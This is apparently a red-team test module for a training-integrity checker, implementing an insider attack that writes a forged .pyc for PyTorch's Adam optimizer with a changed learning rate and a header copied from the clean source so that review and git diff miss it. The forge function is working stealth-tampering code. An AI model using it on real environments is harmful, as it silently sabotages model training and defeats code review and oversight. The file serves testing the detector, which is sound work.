"""02, bytecode only: the compiled cache of a module says something else than its source.

How an insider does it: Adam's source is edited in memory, compiled, and put in the place of its `.pyc` with the source
file's own time and size in the header. The source is untouched: a review, `git diff` and pip's RECORD find nothing.

Precondition: write access to the environment (E). Expected evidence: `environment` names the cache, which is a file
that can be loaded and so part of the seal; an approved job is not started. Effect: other final weights.
Benign twin: a package is installed again over itself. Clean-up: the range puts the environment back.
"""

from __future__ import annotations

import importlib.util
import marshal
import struct
from pathlib import Path

from attacks._shared.deliver import restart
from attacks._shared.evidence import CHANGED, REFUSED, UPDATE
from attacks._shared.reinstall import REINSTALLED
from attacks.t01_library_patch import ADAM, ADAM_ANCHOR, ADAM_PAYLOAD
from trainwarden.errors import CannotDecide
from trainwarden.redteam.interface import Act, Effect, Evidence, Moment, Technique, Variant, When
from trainwarden.redteam.place import Range


def forge(place: Range) -> None:
    """A cache of another Adam that claims to be made from the source that lies beside it (PEP 552, timestamp form)."""
    source = place.site / ADAM
    text = source.read_bytes()
    other = text.replace(ADAM_ANCHOR, ADAM_PAYLOAD + ADAM_ANCHOR, 1)
    if other == text:
        raise CannotDecide(f"{ADAM} does not look as expected", hint="adapt ADAM_ANCHOR to this PyTorch release")
    seen = source.stat()
    stamp = struct.pack("<II", int(seen.st_mtime) & 0xFFFFFFFF, seen.st_size & 0xFFFFFFFF)
    code = compile(other, str(source), "exec", dont_inherit=True)
    header = importlib.util.MAGIC_NUMBER + struct.pack("<I", 0) + stamp
    cache = Path(importlib.util.cache_from_source(str(source)))
    place.write(cache, header + marshal.dumps(code))


TECHNIQUE = Technique(
    id="02",
    slug="bytecode-only",
    title="a compiled cache differs from its source",
    needs="E",
    atlas="T0010.001",
    variants=(
        Variant(
            name="adam",
            does="Adam's learning rate × 0.7 in its .pyc alone; a kill makes the ranks load it (policy: alert)",
            acts=(Act(Moment.STEP, forge), Act(Moment.STEP, restart)),
            expects=(CHANGED, Evidence(When.LIVE, "update-rule", needed=False)),
            effect=Effect.WEIGHTS,
            strikes=UPDATE,
            needs=("restarts", "adam"),
        ),
        Variant(
            name="before-start",
            does="the cache is there before the start of a job whose seal was approved",
            acts=(Act(Moment.START, forge),),
            expects=(REFUSED,),
            effect=Effect.ENDED,
            options=(),
            approved=True,
        ),
    ),
    twin=REINSTALLED,
)
